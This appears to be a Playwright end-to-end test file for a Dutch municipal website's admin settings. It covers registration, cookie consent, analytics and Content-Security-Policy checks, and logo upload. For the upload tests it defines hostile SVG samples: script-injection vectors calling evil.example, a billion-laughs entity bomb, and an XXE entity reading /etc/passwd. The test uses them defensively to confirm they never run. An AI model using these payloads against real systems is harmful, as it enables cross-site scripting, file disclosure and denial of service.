import { signIn } from "../setup/sign-in.ts";
import { expect, platformUrl, test } from "../story.ts";

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
/** What an SVG does as a document: it runs scripts, in an element, handlers, URLs and animations, and loads what it refers to. */
const HOSTILE_LOGO = `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/sheet.css"?>
  <svg ${SVG} viewBox="0 0 240 60" onload="alert(1)" onfocusin="alert(2)" tabindex="1">
  <script>alert(3)</script><script href="https://evil.example/script.js"/><script>//<![CDATA[
    top.location = "https://evil.example/"; //]]></script>
  <style>@import url(https://evil.example/style.css); @font-face { font-family: a; src: url(https://evil.example/a.woff2) }
    .a { fill: #00697d; font-family: a; background: url(https://evil.example/background.png) }</style>
  <filter id="f"><feImage href="https://evil.example/filter.png"/></filter>
  <image href="https://evil.example/pixel.png" width="9" height="9"/><image xlink:href="javascript:alert(4)" width="9" height="9"/>
  <use href="https://evil.example/sprite.svg#a"/><use xlink:href="data:image/svg+xml,%3Csvg onload=alert(5)%3E#a"/>
  <a xlink:href="javascript:alert(6)"><animate attributeName="href" values="javascript:alert(7)" begin="0s" onbegin="alert(8)"/></a>
  <rect class="a" width="240" height="60" filter="url(#f)"/><text class="a" y="9">a</text></svg>`;
/** What browsers don't draw: entities that grow to gigabytes or name a file, a document in it, and a text that isn't XML. */
const REFUSED_LOGOS = [
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${["b", "c", "d", "e", "f", "g", "h", "i", "j"].map((name, index) => `<!ENTITY ${name} "${`&${"abcdefghi"[index]};`.repeat(10)}">`).join("")}]><svg ${SVG}><text>&j;</text></svg>`,
  `<!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd" [<!ENTITY file SYSTEM "file:///etc/passwd">]><svg ${SVG}><text>&file;</text>`,
  `<svg ${SVG}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;"/></foreignObject></svg>`,
  `<svg ${SVG}><p onclick=alert(10)></svg>`,
];

/** Its own session, recent enough to open registration without confirming the identity again. */
test.use({ storageState: { cookies: [], origins: [] } });
test.beforeEach(async ({ page }) => {
  await signIn(page, "admin");
});

test("an admin opens registration, a visitor registers, and the admin closes it again", async ({ page, browser, expectAccessible }) => {
  await page.goto(platformUrl("lindendaal", "/settings?tab=access"));
  await expect(page.getByRole("heading", { level: 1, name: "Instellingen" })).toBeVisible();
  await expect(page.getByRole("radio", { name: "Alleen wie is uitgenodigd" })).toBeChecked();
  await expectAccessible(page);
  await page.getByRole("radio", { name: "Iedereen met een e-mailadres van" }).check();
  await expect(page.getByRole("combobox", { name: "Toegestane domeinen van e-mailadressen" })).toBeVisible();
  await expectAccessible(page);
  await page.getByRole("radio", { name: "Iedereen", exact: true }).check();
  await page.getByRole("button", { name: "Opslaan" }).click();
  await expect(page.getByText("Instelling opgeslagen")).toBeVisible();
  await expect(page.getByRole("button", { name: "Opslaan" })).toBeHidden();

  const visitor = await (await browser.newContext()).newPage();
  await visitor.goto(platformUrl("lindendaal", "/register"));
  await visitor.getByLabel("Voornaam").fill("Noor");
  await visitor.getByLabel("Achternaam").fill("Vis");
  await visitor.getByLabel("E-mailadres").fill("noor.vis@voorbeeld.example");
  await visitor.getByLabel("Wachtwoord", { exact: true }).fill("een-lange-zin-van-noor");
  await visitor.getByRole("checkbox").check();
  await visitor.getByRole("button", { name: "Account maken" }).click();
  await expect(visitor.getByText(/e-mail gestuurd/)).toBeVisible();

  await page.getByRole("radio", { name: "Alleen wie is uitgenodigd" }).check();
  // The screen shows the value at once, before it is stored.
  const stored = page.waitForResponse((response) => response.url().includes("settings.save") && response.ok());
  await page.getByRole("button", { name: "Opslaan" }).click();
  await stored;
  await expect(page.getByRole("radio", { name: "Alleen wie is uitgenodigd" })).toBeFocused();
  await expect(page.getByRole("button", { name: "Opslaan" })).toBeHidden();
  await visitor.goto(platformUrl("lindendaal", "/register"));
  await expect(visitor.getByText("kunt u niet zelf een account maken")).toBeVisible();
});

// @covers route.settings
test("a name can't be empty, isn't lost on leaving, is saved on its own, appears in the header, and can be undone", async ({
  page,
  expectAccessible,
}) => {
  await page.goto(platformUrl("lindendaal", "/settings"));
  const name = page.getByLabel("Naam van de website");
  const before = await name.inputValue();
  await expectAccessible(page);
  await name.fill("");
  await page.keyboard.press("Control+s");
  await expect(page.getByText("Vul hier iets in.")).toBeVisible();
  await expect(name).toHaveValue("");

  await name.fill("Gemeente Anders");
  await page.getByRole("link", { name: "Huisstijl" }).click();
  await expect(page.getByRole("heading", { level: 2, name: "Kleuren" })).toBeVisible();
  await page.getByRole("navigation", { name: "Beheer" }).getByRole("link", { name: "Rollen" }).click();
  const warning = page.getByRole("dialog", { name: "Niet alles is opgeslagen" });
  await warning.getByRole("button", { name: "Hier blijven" }).click();
  await page.getByRole("link", { name: "Algemeen" }).click();
  await expect(name).toHaveValue("Gemeente Anders");
  await name.press("Enter");
  await expect(page.getByRole("banner")).toContainText("Gemeente Anders");
  await expect(page.getByRole("button", { name: "Opslaan" })).toBeHidden();
  await page.getByRole("button", { name: "Ongedaan maken" }).click();
  await expect(name).toHaveValue(before);
  await expect(page.getByRole("banner")).toContainText(before);

  // The text of a mail: refused with a reason, previewed, saved, and back to the original.
  await page.getByRole("link", { name: "Teksten van e-mails aanpassen" }).click();
  await page.getByRole("link", { name: "Nieuw wachtwoord kiezen, Nederlands: Origineel" }).click();
  const subject = page.getByLabel("Onderwerp");
  const original = await subject.inputValue();
  await subject.fill("Sleutel {naam}");
  await expect(page.getByText("{naam} bestaat niet in deze e-mail.")).toBeVisible();
  await subject.fill("Sleutel van {name}");
  await expect(page.frameLocator("iframe").getByRole("heading", { name: "Sleutel van Sanne" })).toBeVisible();
  await expectAccessible(page);
  await page.keyboard.press("Control+s");
  await page.getByRole("button", { name: "Terug naar het origineel" }).click();
  await expect(subject).toHaveValue(original);
});

// @covers screen.dialogs
test("an admin counts visits, and a visitor decides whether they are counted, in equal choices, again from the footer", async ({
  page,
  browser,
  expectAccessible,
}) => {
  await page.goto(platformUrl("lindendaal", "/settings"));
  const account = page.getByLabel("Accountnummer van Siteimprove");
  await account.fill("601");
  await account.press("Enter");
  await expect(page.getByText("Instelling opgeslagen")).toBeVisible();

  const visitor = await (await browser.newContext()).newPage();
  const elsewhere: string[] = [];
  await visitor.route(/siteimprove/, (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "document.cookie = 'nmstat=1; path=/'" });
  });
  const cookies = async () => (await visitor.context().cookies()).map(({ name }) => name);
  const dialog = visitor.getByRole("dialog", { name: "Cookies op deze website" });
  await visitor.goto(platformUrl("lindendaal"));
  await expectAccessible(visitor);
  await expect(dialog).toBeVisible();
  expect([elsewhere, await cookies(), await visitor.evaluate(() => localStorage.length)]).toEqual([[], [], 0]);
  await dialog.getByRole("button", { name: "Instellen" }).click();
  await dialog.getByRole("checkbox", { name: /^Statistiek/ }).check();
  await dialog.getByRole("button", { name: "Keuze opslaan" }).click();
  await expect.poll(cookies).toEqual(["nmstat"]);
  expect(elsewhere).toEqual(["https://siteimproveanalytics.com/js/siteanalyze_601.js"]);

  await visitor.getByRole("contentinfo").getByRole("link", { name: "Cookiekeuze" }).click();
  await expect(dialog.getByRole("checkbox", { name: /^Statistiek/ })).toBeChecked();
  await dialog.getByRole("button", { name: "Alleen noodzakelijk" }).click();
  await expect.poll(cookies).toEqual([]);
  await expect(dialog).toBeHidden();
  expect(elsewhere).toHaveLength(1);

  await account.fill("");
  await account.press("Enter");
  await expect.poll(async () => (await visitor.goto(platformUrl("lindendaal"))) && visitor.locator("dialog").count()).toBe(0);
});

const MATOMO_CODE = `<script>var _paq = window._paq = window._paq || []; _paq.push(['trackPageView']);
  (function() { var u="//stats.voorbeeld.example/"; _paq.push(['setTrackerUrl', u+'matomo.php']); _paq.push(['setSiteId', '12']); })();</script>`;

// @covers entity.custom-analytics
test("an admin pastes the code of Matomo, which runs for visitors who agree, on this platform alone, and undoes it", async ({
  page,
  browser,
  expectAccessible,
}) => {
  await page.goto(platformUrl("lindendaal", "/settings"));
  await page.getByRole("radio", { name: "Matomo" }).check();
  const setting = page.locator("form").filter({ has: page.getByRole("radio", { name: "Matomo" }) });
  await setting.getByLabel("Adres van Matomo").fill("http://stats.voorbeeld.example");
  await setting.getByLabel("Nummer van deze website").fill("twaalf");
  await setting.getByRole("button", { name: "Opslaan" }).click();
  await expect(setting.getByText("Vul een adres in dat met https:// begint.")).toBeVisible();
  await expect(setting.getByLabel("Nummer van deze website")).toHaveAttribute("aria-invalid", "true");
  await setting.getByLabel("Code van de dienst").fill(MATOMO_CODE);
  await expect(setting.getByLabel("Nummer van deze website")).toHaveValue("12");
  await expect(setting.getByRole("figure")).toContainText("naar stats.voorbeeld.example");
  await expectAccessible(page);
  await setting.getByRole("button", { name: "Opslaan" }).click();
  await expect(page.getByText("Instelling opgeslagen")).toBeVisible();
  const undo = page.getByRole("button", { name: "Ongedaan maken" });
  // The notice stays while the focus is on it.
  await undo.focus();

  const visitor = await (await browser.newContext()).newPage();
  const elsewhere: string[] = [];
  await visitor.route(/stats\.voorbeeld\.example/, (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "document.cookie = `_pk_id.${_paq[1][1]}.ab=1; path=/`" });
  });
  const cookies = async () => (await visitor.context().cookies()).map(({ name }) => name);
  const policyOf = async (url: string) => (await visitor.goto(url))?.headers()["content-security-policy"] ?? "";
  expect(await policyOf(platformUrl("meeuwen"))).not.toContain("voorbeeld.example");
  expect(await policyOf(platformUrl("lindendaal"))).toContain("connect-src 'self' https://stats.voorbeeld.example;");
  const dialog = visitor.getByRole("dialog", { name: "Cookies op deze website" });
  await expect(dialog).toBeVisible();
  expect([elsewhere, await cookies(), await visitor.evaluate(() => localStorage.length)]).toEqual([[], [], 0]);
  await dialog.getByRole("button", { name: "Alles toestaan" }).click();
  await expect.poll(cookies).toEqual(["_pk_id.12.ab"]);
  expect(elsewhere).toEqual(["https://stats.voorbeeld.example/matomo.js"]);
  await visitor.goto(platformUrl("lindendaal", "/legal/cookie-statement/nl"));
  await expect(visitor.getByRole("row", { name: /^_pk_ses\*.*\(Matomo\).*30 minuten$/ })).toBeVisible();

  // Signed in, the script could act as its user.
  const own = await (await page.context().newPage()).goto(platformUrl("lindendaal"));
  expect(own?.headers()["content-security-policy"]).not.toContain("voorbeeld.example");
  await undo.click();
  await expect(page.getByRole("radio", { name: "Geen", exact: true })).toBeChecked();
  await expect.poll(() => policyOf(platformUrl("lindendaal"))).not.toContain("voorbeeld.example");
});

// @covers entity.notification-defaults
test("an admin chooses where notices show for users who chose nothing", async ({ page, browser, expectAccessible }) => {
  const setting = page.locator("form").filter({ has: page.getByLabel("Plaats van meldingen") });
  const choose = async (position: string) => {
    const stored = page.waitForResponse((response) => response.url().includes("settings.save") && response.ok());
    await setting.getByLabel("Plaats van meldingen").selectOption(position);
    await setting.getByRole("button", { name: "Opslaan" }).click();
    await stored;
  };
  const member = await (await browser.newContext()).newPage();
  await signIn(member, "member");
  const expectPosition = async (position: string, name: string) => {
    await member.goto(platformUrl("lindendaal", "/account/preferences"));
    await expect(member.getByRole("combobox", { name: "Plaats van meldingen" })).toHaveValue(name);
    await expect(member.locator('[data-position]:has(> [role="status"])')).toHaveAttribute("data-position", position);
  };
  await page.goto(platformUrl("lindendaal", "/settings"));
  await choose("top-right");
  await expectAccessible(page);
  await expectPosition("top-right", "Rechtsboven");
  await choose("bottom");
  await expectPosition("bottom", "Onder");
});

test("two admins who change the same setting see the conflict", async ({ page, browser }) => {
  const open = async (tab: typeof page) => {
    await tab.goto(platformUrl("lindendaal", "/settings"));
    return tab.getByLabel("Samenvatting");
  };
  const other = await (await browser.newContext()).newPage();
  await signIn(other, "admin");
  const [mine, theirs] = [await open(page), await open(other)];
  const before = await mine.inputValue();
  await mine.fill("Van de een");
  await theirs.fill("Van de ander");
  await theirs.press("Control+s");
  await expect(other.getByText("Instelling opgeslagen")).toBeVisible();
  await mine.press("Control+s");
  await expect(page.getByRole("alert").filter({ hasText: "Iemand anders heeft deze instelling" })).toBeVisible();
  await expect(mine).toHaveValue("Van de een");
  await page.getByRole("button", { name: "Annuleren" }).click();
  await expect(mine).toHaveValue("Van de ander");
  await mine.fill(before);
  await mine.press("Control+s");
  await expect(page.getByText("Instelling opgeslagen")).toBeVisible();
});

test("a colour with too little contrast is previewed as adapted, and colours take effect immediately", async ({
  page,
  browser,
  expectAccessible,
}) => {
  await page.goto(platformUrl("lindendaal", "/settings?tab=branding"));
  const primary = page.getByRole("textbox", { name: "Hoofdkleur", exact: true });
  const before = await primary.inputValue();
  await primary.fill("#e17000");
  await expect(page.getByText(/wordt voor knoppen iets donkerder: #[0-9a-f]{6}\. .* contrast van 3,\d:1/)).toBeVisible();
  await expectAccessible(page);
  await primary.press("Tab");
  await page.getByRole("button", { name: "Opslaan" }).click();
  await expect(page.getByText("Instelling opgeslagen")).toBeVisible();
  const visitor = await (await browser.newContext()).newPage();
  const brand = async () => {
    await visitor.goto(platformUrl("lindendaal"));
    return visitor.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue("--plein-brand"));
  };
  const orange = await brand();
  await primary.fill(before);
  await primary.press("Enter");
  await expect.poll(brand).not.toBe(orange);

  const footers = async () => {
    await visitor.goto(platformUrl("lindendaal"));
    return visitor.getByRole("contentinfo").count();
  };
  const footer = page.getByRole("switch", { name: "Voet tonen" });
  await footer.click();
  await expect(footer).not.toBeChecked();
  await expect.poll(footers).toBe(0);
  await footer.click();
  await expect.poll(footers).toBe(1);

  // An SVG is drawn by the browser: what it could do or load stays behind. It isn't saved.
  const dialogs: string[] = [];
  page.on("dialog", (shown) => dialogs.push(shown.message()));
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) foreign.push(request.url());
  });
  const logo = page.getByRole("group", { name: "Logo", exact: true });
  const former = await logo.locator("img").getAttribute("src");
  await logo.getByRole("button", { name: "Kies uit de bibliotheek" }).click();
  const choose = (content: string) =>
    page
      .getByRole("dialog")
      .locator("input[type=file]")
      .setInputFiles({ name: "wapen.svg", mimeType: "image/svg+xml", buffer: Buffer.from(content) });
  for (const content of REFUSED_LOGOS) {
    await choose(content);
    await expect(page.getByRole("dialog").getByText("Deze afbeelding is kapot of heeft te veel beeldpunten.")).toBeVisible();
  }
  await choose(HOSTILE_LOGO);
  await expect(logo.locator("img")).not.toHaveAttribute("src", former ?? "");
  const address = (await logo.locator("img").getAttribute("src")) ?? "";
  const drawn = await page.evaluate(async (src) => {
    const image = await createImageBitmap(await (await fetch(src)).blob());
    return `${image.width} × ${image.height}`;
  }, address);
  expect(drawn).toBe("2048 × 512");
  expect([dialogs, foreign]).toEqual([[], []]);
  await logo.locator("xpath=ancestor::form").getByRole("button", { name: "Annuleren" }).click();
  await page.evaluate((src) => fetch(src.replace("/a/", "/api/mediafiles/"), { method: "DELETE" }), address);

  const shared = page.getByRole("group", { name: "Afbeelding bij gedeelde links" });
  const save = async () => {
    // The screen shows the value at once, before it is stored.
    const stored = page.waitForResponse((response) => response.url().includes("settings.save") && response.ok());
    await page.getByRole("button", { name: "Opslaan" }).click();
    await stored;
    await expect(page.getByRole("button", { name: "Opslaan" })).toBeHidden();
  };
  await shared.getByRole("button", { name: "Kies uit de bibliotheek" }).click();
  await page
    .getByRole("dialog")
    .getByRole("button", { name: /^Tulpenvelden/ })
    .click();
  await expect(shared.getByText("Zo ziet een gedeelde link er ongeveer uit:")).toBeVisible();
  await expect(shared.getByRole("status")).toContainText("De eerste daarvan gaat voor");
  await expectAccessible(page);
  await save();
  await shared.getByRole("button", { name: "Zonder afbeelding" }).click();
  await save();
});
